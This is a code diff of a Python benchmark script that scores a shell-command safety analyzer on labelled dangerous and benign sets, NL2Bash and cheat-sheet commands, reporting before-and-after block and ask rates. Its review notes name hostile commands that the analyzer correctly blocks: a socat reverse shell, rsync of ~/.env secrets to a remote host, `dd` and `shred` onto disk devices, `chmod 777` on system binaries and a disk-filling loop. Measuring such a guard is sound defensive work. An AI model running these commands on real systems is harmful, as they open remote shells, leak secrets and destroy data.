@@ -1,7 +1,7 @@
 """Shell analyzer: accuracy on labelled sets, block/ask rates on NL2Bash, latency against a regex baseline.
 
 Run from the repo root:  .venv/bin/python -m benchmarks.bench_shell
-Writes benchmarks/results/shell.md and benchmarks/results/shell_nl2bash_blocked.txt.
+Writes benchmarks/results/shell.md, shell_nl2bash_blocked.txt and shell_everyday_blocked.txt.
 """
 
 from __future__ import annotations
@@ -124,34 +124,53 @@ REVIEWED = {
     "dd-to-device": "correct: `dd of=/dev/sdb` overwrites a disk",
     "tee-overwrite-system-file": "correct by policy: overwrites a file under /etc (apt sources, timezone)",
     "copy-secrets-remote": "correct: rsync of ~/.env* to a remote host",
+    "redirect-system-file": "correct by policy: overwrites a file under /etc",
+    "reverse-shell": "correct: `socat exec:'bash -i' tcp:HOST` is a reverse shell",
+    "shred": "correct: shreds a disk device",
+    "shutdown": "correct: stops or reboots the machine",
+    "storage-destroy": "correct: wipes RAID metadata / destroys a pool",
+    "chmod-system-weakened": "correct: `chmod 777` on a system binary lets anyone replace it",
+    "disk-fill": "correct: `yes > file` in the background writes until the disk is full",
+    "secret-to-network": "WRONG: `openssl req/x509 -key server.key` reads its own key to sign (TLS key "
+    "arguments; the fix belongs to the argument normalization of issue 10)",
 }
 
+# Measured with the same judge on the tree before issue 16 (commit b818e74); kept as constants because that
+# code is no longer in the tree.
+BEFORE_COMMIT = "b818e74"
+BRIEF_BEFORE = {"caught": 286, "strict": 154, "ask": 13, "block": 13}
+BRIEF_BEFORE_PER = {
+    "cloud_destroy": 47, "orchestration_destroy": 18, "iac_destroy": 7, "forge_registry_delete": 10, "publish": 19,
+    "vendor_mutate": 5, "spending": 1, "exposure": 4, "supply_chain_config": 2, "security_weakening": 14,
+    "network_down": 2, "disk_filling": 3, "guard_self_protection": 0, "kill_uncatchable": 4, "service_stop": 4,
+    "find_delete": 20, "data_dir_delete": 23, "perm_weakening": 14, "persistence_access": 16, "database_destroy": 15,
+    "secrets_access": 16, "secrets_exfil": 8, "cloud_metadata": 1, "git_destroy": 9, "pkg_system_remove": 0,
+    "disk_device": 9, "system_state": 10, "remote_code": 5,
+}  # fmt: skip
+EVERYDAY_BEFORE = {"ask": 22, "block": 9}
+NL2BASH_BEFORE = {"ask": 605, "block": 15}
+LABELLED_BEFORE = {"caught": 421, "strict": 421, "ask": 0, "block": 0}
 
-def nl2bash_section(lines: list[str]) -> tuple[list[str], list[str]]:
+
+def scan(commands: list[str]) -> tuple[Counter[str], Counter[str], list[tuple[str, str]]]:
+    """Verdict counts, the first asking rule per asked line, and (rule, line) for every blocked line."""
     verdicts: Counter[str] = Counter()
     ask_rules: Counter[str] = Counter()
     blocked: list[tuple[str, str]] = []
-    for line in lines:
-        analysis = analyze_uncached(line, WS, HOME)
+    for command in commands:
+        analysis = analyze_uncached(command, WS, HOME)
         verdicts[analysis.verdict] += 1
-        if analysis.verdict == "ask":
-            ask_rules[next(f.rule for f in analysis.findings if f.verdict == "ask")] += 1
-        if analysis.verdict == "block":
-            rule = next(f.rule for f in analysis.findings if f.verdict == "block")
-            blocked.append((rule, line))
-    total = len(lines)
-    md = [
-        "### NL2Bash (12,607 everyday command lines)",
-        "",
-        "| verdict | lines | rate |",
-        "|---|---:|---:|",
-        *(f"| {v} | {verdicts[v]} | {_pct(verdicts[v], total)} |" for v in ("allow", "ask", "block")),
-        "",
-        "Blocked lines, by rule, with the review of each group:",
-        "",
-        "| rule | lines | review |",
-        "|---|---:|---|",
-    ]
+        if analysis.verdict in ("ask", "block"):
+            rule = next(f.rule for f in analysis.findings if f.verdict == analysis.verdict)
+            if analysis.verdict == "ask":
+                ask_rules[rule] += 1
+            else:
+                blocked.append((rule, command))
+    return verdicts, ask_rules, blocked
+
+
+def review_table(blocked: list[tuple[str, str]], ask_rules: Counter[str], total: int, top: int) -> list[str]:
+    md = ["| blocked by rule | lines | review |", "|---|---:|---|"]
     by_rule = Counter(rule for rule, _ in blocked)
     for rule, count in by_rule.most_common():
         md.append(f"| {rule} | {count} | {REVIEWED.get(rule, 'NOT REVIEWED').replace('|', chr(92) + '|')} |")
@@ -163,10 +182,27 @@ def nl2bash_section(lines: list[str]) -> tuple[list[str], list[str]]:
         "| rule | lines |",
         "|---|---:|",
     ]
-    md += [f"| {rule} | {count} |" for rule, count in ask_rules.most_common(12)]
+    md += [f"| {rule} | {count} |" for rule, count in ask_rules.most_common(top)]
     md.append("")
-    listing = [f"{rule}\t{line}" for rule, line in sorted(blocked)]
-    return md, listing
+    return md
+
+
+def nl2bash_section(lines: list[str]) -> tuple[list[str], list[str]]:
+    verdicts, ask_rules, blocked = scan(lines)
+    total = len(lines)
+    md = [
+        "### NL2Bash (12,607 everyday command lines)",
+        "",
+        f"Before issue 16 (commit {BEFORE_COMMIT}): ask {_pct(NL2BASH_BEFORE['ask'], total)}, block "
+        f"{_pct(NL2BASH_BEFORE['block'], total)}.",
+        "",
+        "| verdict | lines | rate |",
+        "|---|---:|---:|",
+        *(f"| {v} | {verdicts[v]} | {_pct(verdicts[v], total)} |" for v in ("allow", "ask", "block")),
+        "",
+        *review_table(blocked, ask_rules, total, 12),
+    ]
+    return md, [f"{rule}\t{line}" for rule, line in sorted(blocked)]
 
 
 # The analyzer at commit dfff10c (before the red-team fixes), measured on shell_redteam.yaml with the
@@ -207,6 +243,66 @@ def redteam_section() -> list[str]:
     return md
 
 
+def brief_section() -> list[str]:
+    data = yaml.safe_load((DATA / "shell_brief.yaml").read_text())
+    rows, benign = data["dangerous"], data["benign"]
+    ours = evaluate_dangerous(rows, shell_verdict)
+    ours_b = evaluate_benign(benign, shell_verdict)
+    theirs = evaluate_dangerous(rows, naive_verdict)
+    n, nb, before = len(rows), len(benign), BRIEF_BEFORE
+    md = [
+        f"### Brief corpus ({n} dangerous in {len(ours['per'])} classes, {nb} everyday look-alikes; "
+        "`benchmarks/data/shell_brief.yaml`)",
+        "",
+        "Written from issue 16's brief (classes first, then commands, across tools the packs never named) BEFORE",
+        "the rules were read or changed, and never tuned on: the held-out estimate of generalization. BEFORE is",
+        f"commit {BEFORE_COMMIT}, AFTER this tree.",
+        "",
+        "| metric | before | after | naive regex |",
+        "|---|---:|---:|---:|",
+        f"| block-or-ask recall | {_pct(before['caught'], n)} | {_pct(ours['caught'], n)} | {_pct(theirs['caught'], n)} |",
+        f"| at least the labelled verdict | {_pct(before['strict'], n)} | {_pct(ours['strict'], n)} "
+        f"| {_pct(theirs['strict'], n)} |",
+        f"| look-alikes asked | {_pct(before['ask'], nb)} | {_pct(len(ours_b['ask']), nb)} | |",
+        f"| look-alikes blocked | {_pct(before['block'], nb)} | {_pct(len(ours_b['block']), nb)} | |",
+        "",
+        "| class | rows | before | after |",
+        "|---|---:|---:|---:|",
+    ]
+    for category in ours["per"]:
+        total = ours["per"][category]
+        md.append(f"| {category} | {total} | {_pct(BRIEF_BEFORE_PER.get(category, 0), total)} "
+                  f"| {_pct(ours['per_caught'][category], total)} |")  # fmt: skip
+    md.append("")
+    return md
+
+
+def everyday_rows() -> list[str]:
+    lines = (DATA / "shell_everyday.tsv").read_text(encoding="utf-8").splitlines()
+    return [line.split("\t", 2)[2] for line in lines if line and not line.startswith("#")]
+
+
+def everyday_section() -> tuple[list[str], list[str]]:
+    commands = everyday_rows()
+    verdicts, ask_rules, blocked = scan(commands)
+    n, before = len(commands), EVERYDAY_BEFORE
+    md = [
+        f"### Everyday documented commands ({n} lines; `benchmarks/data/shell_everyday.tsv`)",
+        "",
+        "Example lines of the cheat 2.5.1 and eg 1.2.3 cheat sheets (MIT; see `shell_everyday.NOTICE`), kept as",
+        "published apart from filled `<placeholders>`; they include documented dangerous examples (`shutdown`,",
+        "`shred /dev/sda`), so some blocks are right. Every block is listed in `shell_everyday_blocked.txt`.",
+        "",
+        "| verdict | before | after |",
+        "|---|---:|---:|",
+        f"| ask | {_pct(before['ask'], n)} | {_pct(verdicts['ask'], n)} |",
+        f"| block | {_pct(before['block'], n)} | {_pct(verdicts['block'], n)} |",
+        "",
+        *review_table(blocked, ask_rules, n, 20),
+    ]
+    return md, [f"{rule}\t{line}" for rule, line in sorted(blocked)]
+
+
 def main() -> None:
     dangerous = yaml.safe_load((DATA / "shell_dangerous.yaml").read_text())
     benign = yaml.safe_load((DATA / "shell_benign.yaml").read_text())
@@ -235,6 +331,11 @@ def main() -> None:
         "builds the parser and imports the SQL dialects once, as a long-running guard would.",
         "",
         f"### Labelled sets ({n} dangerous incl. {len(evasions)} evasions, {nb} benign-but-tricky)",
+        "",
+        f"Before issue 16 (commit {BEFORE_COMMIT}): recall {_pct(LABELLED_BEFORE['caught'], n)}, at the label "
+        f"{_pct(LABELLED_BEFORE['strict'], n)}, benign asked {_pct(LABELLED_BEFORE['ask'], nb)}, blocked "
+        f"{_pct(LABELLED_BEFORE['block'], nb)}. Issue 16 makes mutating vendor-CLI calls ask (`kubectl apply`,",
+        "`helm upgrade`, `aws s3 cp`, `kubectl rollout restart`): four benign rows predate that rule.",
         "",
         "| metric | railguard | naive regex |",
         "|---|---:|---:|",
@@ -268,6 +369,9 @@ def main() -> None:
     md.append("")
 
     md += redteam_section()
+    md += brief_section()
+    everyday_md, everyday_listing = everyday_section()
+    md += everyday_md
     nl_md, listing = nl2bash_section(lines)
     md += nl_md
 
@@ -303,6 +407,7 @@ def main() -> None:
     RESULTS.mkdir(parents=True, exist_ok=True)
     (RESULTS / "shell.md").write_text("\n".join(md))
     (RESULTS / "shell_nl2bash_blocked.txt").write_text("\n".join(listing) + "\n")
+    (RESULTS / "shell_everyday_blocked.txt").write_text("\n".join(everyday_listing) + "\n")
     print("\n".join(md))
 
 
